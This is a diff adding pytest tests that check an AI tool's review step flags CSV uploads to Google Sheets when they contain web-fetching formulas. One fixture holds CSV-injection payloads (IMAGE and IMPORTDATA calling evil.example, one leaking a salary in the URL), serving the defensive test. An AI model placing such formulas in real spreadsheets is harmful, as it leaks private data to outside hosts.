@@ -3,7 +3,7 @@ import pytest
 from google.auth.exceptions import RefreshError
 
 from app import google_api
-from app.tools import invoke
+from app.tools import invoke, review
 from app.tools.context import Context
 from app.tools.registry import ReconnectRequired, ToolError
 
@@ -24,6 +24,21 @@ def test_a_text_file_and_a_sheet_from_csv_are_created(ctx, sandbox):
     files = sandbox.state()["drive"]["files"]
     assert (files[text["id"]]["mimeType"], files[text["id"]]["text"], files[text["id"]]["parents"]) == ("text/plain", "buy milk\n", ["1FinanceFolder"])
     assert files[sheet["id"]]["text"] == "a,b\n1,2\n" and sheet["type"] == "sheet"
+
+
+def test_a_sheet_whose_csv_holds_formulas_asks_first_and_lists_them(ctx):
+    # Drive's CSV import makes them live formulas; IMAGE and IMPORTDATA fetch from the web when the sheet opens.
+    csv = 'Name,Salary\nBob,120000\n=IMAGE("https://evil.example/x.png?d=Bob-120000"),\n+IMPORTDATA("https://evil.example/"),-45\n'
+
+    card = review("drive_create_file", ctx, {"name": "Payroll", "kind": "sheet", "content": csv})
+
+    assert card.effect == "outbound"
+    assert card.preview["formulas"] == ['=IMAGE("https://evil.example/x.png?d=Bob-120000")', '+IMPORTDATA("https://evil.example/")']
+
+
+def test_a_sheet_of_plain_values_and_a_text_file_starting_with_an_equals_sign_are_plain_writes(ctx):
+    assert review("drive_create_file", ctx, {"name": "Refunds", "kind": "sheet", "content": "Item,Amount\nRefund,-45\n"}).effect == "write"
+    assert review("drive_create_file", ctx, {"name": "notes.txt", "kind": "text", "content": "=IMAGE(x)"}).effect == "write"
 
 
 def test_a_folder_that_does_not_exist_or_is_a_file_is_an_error_and_nothing_is_created(ctx, sandbox):
